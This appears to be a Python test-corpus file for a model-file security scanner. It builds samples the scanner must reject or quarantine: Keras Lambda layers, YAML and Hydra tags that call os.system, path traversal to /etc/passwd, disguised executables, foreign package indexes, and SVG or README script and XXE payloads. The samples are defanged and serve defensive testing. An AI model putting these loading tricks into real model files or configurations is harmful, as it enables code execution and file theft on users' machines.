"""Cases 87 to 98: formats that carry programs, and configurations that fetch them."""

from __future__ import annotations

import json
from typing import Any

from tests.attacks.corpus.case import Expected, Family, Variants
from tests.attacks.corpus.onnx_bytes import initializer, model, node
from tests.attacks.corpus.pickles import one
from tests.attacks.corpus.safetensors_files import honest_file
from tests.attacks.corpus.zips import Member, archive

FAMILY = Family("other format")
R, Q = Expected.REJECT, Expected.QUARANTINE
HDF5 = b"\x89HDF\r\n\x1a\n" + bytes(88)


def keras(layer: dict[str, Any]) -> bytes:
    """A ``.keras`` archive of one layer."""
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    return archive([
        Member("metadata.json", b'{"keras_version": "3.8.0"}'),
        Member("config.json", json.dumps(config).encode()),
        Member("model.weights.h5", HDF5),
    ])  # fmt: skip


LAMBDA = {"module": "keras.layers", "class_name": "Lambda",
          "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wAAAAAA"}}}}  # fmt: skip


@FAMILY.case(87, "a Keras Lambda layer", R)
def keras_lambda() -> Variants:
    yield one("keras", keras(LAMBDA), "model.keras")
    yield one("renamed", keras(LAMBDA), "model.zip")
    text = json.dumps({"class_name": "Sequential", "config": {"layers": [LAMBDA]}}).encode()
    yield one("h5", HDF5 + b"model_config" + text, "model.h5")
    yield one("h5-renamed", HDF5 + b"model_config" + text, "weights.bin")
    yield one("json", text, "model.json")


@FAMILY.case(88, "a Keras layer that names any module", R)
def keras_module() -> Variants:
    for module, name in (("os", "system"), ("builtins", "eval"), ("keras.utils", "get_file")):
        layer = {"module": module, "class_name": name, "config": {"command": "true"}}
        yield one(f"{module}.{name}", keras(layer), "model.keras")


@FAMILY.case(89, "ONNX weights in a file outside the folder", R)
def onnx_external() -> Variants:
    for name, path in (
        ("parent", "../../etc/passwd"),
        ("absolute", "/etc/passwd"),
        ("inner", "a/../../x"),
    ):
        yield one(name, model(node("Relu"), initializer(path)), "model.onnx")
    yield one("renamed", model(node("Relu"), initializer("../x")), "model.bin")


@FAMILY.case(90, "ONNX with operators of another domain", Q)
def onnx_domain() -> Variants:
    for domain in ("com.acme.ops", "ai.onnx.contrib"):
        yield one(domain, model(node("Run", domain), initializer(), domain), "model.onnx")


PE = b"MZ".ljust(60, b"\0") + b"\x40\0\0\0PE\0\0" + b"\x64\x86"
SHORTCUT = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"


@FAMILY.case(91, "programs: ELF, PE, Mach-O and their kind", R)
def executables() -> Variants:
    for name, head in (
        ("libx.so", b"\x7fELF\x02\x01\x01"), ("x.dll", PE), ("x.exe", PE), ("x.lnk", SHORTCUT),
        ("x.dylib", b"\xcf\xfa\xed\xfe"), ("x.macho", b"\xfe\xed\xfa\xce"), ("x.fat", b"\xca\xfe\xba\xbe"),
        ("x.wasm", b"\0asm\x01\0\0\0"), ("x.pyc", b"\xcb\r\r\n"), ("x.dex", b"dex\n035\0"),
    ):  # fmt: skip
        yield one(name, head.ljust(128, b"\0"), name)
        yield one(f"{name}-renamed", head.ljust(128, b"\0"), "weights.bin")


CODE = b"class Model:\n    pass\n"


def with_auto_map(reference: str, file: str = "config.json") -> dict[str, bytes]:
    content = {"model_type": "llama", "auto_map": {"AutoModelForCausalLM": reference}}
    return {file: json.dumps(content).encode(), "model.safetensors": honest_file()}


@FAMILY.case(92, "Python code that a configuration has loaded", Q)
def local_code() -> Variants:
    yield "config", with_auto_map("modeling_acme.Model") | {"modeling_acme.py": CODE}
    yield (
        "tokenizer",
        with_auto_map("tokenization.T", "tokenizer_config.json") | {"tokenization.py": CODE},
    )
    yield one("alone", CODE, "modeling_acme.py")


@FAMILY.case(93, "a configuration that has code of another repository loaded", R)
def remote_code() -> Variants:
    for file in ("config.json", "tokenizer_config.json", "processor_config.json", "preprocessor_config.json",
                 "generation_config.json"):  # fmt: skip
        yield file, with_auto_map("acme/other--modeling_acme.Model", file)
    nested = {"text_config": {"auto_map": {"AutoModel": "acme/other--m.M"}}}
    yield one("nested", json.dumps(nested).encode(), "config.json")
    listed = {"auto_map": {"AutoTokenizer": ["acme/other--t.T", None]}}
    yield one("list", json.dumps(listed).encode(), "tokenizer_config.json")
    pipelines = {"custom_pipelines": {"x": {"impl": "acme/other--p.P", "pt": []}}}
    yield one("pipeline", json.dumps(pipelines).encode(), "config.json")


@FAMILY.case(94, "a configuration whose paths lead out of the folder", R)
def config_paths() -> Variants:
    for key, path in (("vocab_file", "../../etc/passwd"), ("tokenizer_file", "/etc/passwd"),
                      ("_name_or_path", "../../x"), ("merges_file", "..\\..\\x"), ("chat_template_path", "../t.jinja")):  # fmt: skip
        yield one(key, json.dumps({key: path}).encode(), "tokenizer_config.json")
    index = {"metadata": {"total_size": 16}, "weight_map": {"w": "../../other.safetensors"}}
    yield one("weight_map", json.dumps(index).encode(), "model.safetensors.index.json")
    index["weight_map"] = {"w": "../../pytorch_model.bin"}
    yield one("bin-index", json.dumps(index).encode(), "pytorch_model.bin.index.json")


@FAMILY.case(95, "YAML with Python tags, Hydra's _target_", R)
def yaml_code() -> Variants:
    for name, text in (
        ("apply", "a: !!python/object/apply:os.system ['true']\n"),
        ("name", "a: !!python/name:os.system\n"), ("module", "a: !!python/module:os\n"),
        ("new", "a: !!python/object/new:os.system\n  args: ['true']\n"),
        ("long-tag", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n"),
        ("tag-handle", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']\n"),
        ("target", "model:\n  _target_: os.system\n  command: 'true'\n"),
        ("quoted-target", 'model: {"_target_": "builtins.eval", "_args_": ["None"]}\n'),
    ):  # fmt: skip
        yield one(name, text.encode(), "config.yaml")
    yield one("second-document", b"a: 1\n---\nb: !!python/name:os.system\n", "x.yml")
    yield one(
        "json-target", b'{"model": {"_target_": "os.system", "command": "true"}}', "config.json"
    )
    yield one(
        "front-matter",
        b"---\nlicense: !!python/object/apply:os.system ['true']\n---\n# x\n",
        "README.md",
    )


@FAMILY.case(96, "requirements from another index", R)
def requirements() -> Variants:
    for name, text in (
        ("extra", "--extra-index-url https://pypi.acme.example/simple\ntorch\n"),
        ("index", "-i https://pypi.acme.example/simple\ntorch\n"), ("links", "--find-links http://x.example/\n"),
        ("url", "torch @ https://x.example/torch.whl\n"), ("git", "git+https://x.example/x.git#egg=x\n"),
        ("editable", "-e git+https://x.example/x.git#egg=x\n"), ("trusted", "--trusted-host x.example\ntorch\n"),
    ):  # fmt: skip
        yield one(name, text.encode(), "requirements.txt")
    yield one("pip.conf", b"[global]\nextra-index-url = https://x.example/simple\n", "pip.conf")
    yield one("dev", b"--extra-index-url=https://x.example\n", "requirements-dev.txt")


def notebook(outputs: list[dict[str, Any]], source: str = "1 + 1") -> bytes:
    cell = {
        "cell_type": "code",
        "source": [source],
        "outputs": outputs,
        "metadata": {},
        "execution_count": 1,
    }
    return json.dumps(
        {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    ).encode()


@FAMILY.case(97, "a notebook with its output", Q)
def notebooks() -> Variants:
    yield one(
        "stream",
        notebook([{"output_type": "stream", "name": "stdout", "text": ["2\n"]}]),
        "use.ipynb",
    )
    page = {"output_type": "display_data", "data": {"text/plain": ["a table"]}, "metadata": {}}
    yield one("display", notebook([page]), "use.ipynb")


@FAMILY.case(98, "a script in an SVG picture or in the card", R)
def scripts() -> Variants:
    svg = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
    for name, inner in (
        ("script", "<script>void 0</script>"), ("onload", '<g onload="void 0"/>'),
        ("foreign", "<foreignObject><iframe src='//x.example'/></foreignObject>"),
        ("href", '<a href="javascript:void 0"><text>x</text></a>'),
        ("use", '<use href="data:image/svg+xml;base64,PHN2Zz4="/>'),
    ):  # fmt: skip
        yield one(f"svg-{name}", svg.format(inner).encode(), "logo.svg")
    yield one(
        "svg-entity",
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg.format("&x;").encode(),
        "l.svg",
    )
    yield one("svg-utf16", svg.format("<script>void 0</script>").encode("utf-16"), "logo.svg")
    for name, text in (("script", "<script>void 0</script>"), ("onerror", "<img src=x onerror=void(0)>"),
                       ("iframe", "<iframe src='//x.example'></iframe>"), ("link", "[x](javascript:void(0))")):  # fmt: skip
        yield one(f"card-{name}", f"# Model\n\n{text}\n".encode(), "README.md")
    yield one(
        "html", b"<!doctype html><html><body><script>void 0</script></body></html>", "page.html"
    )
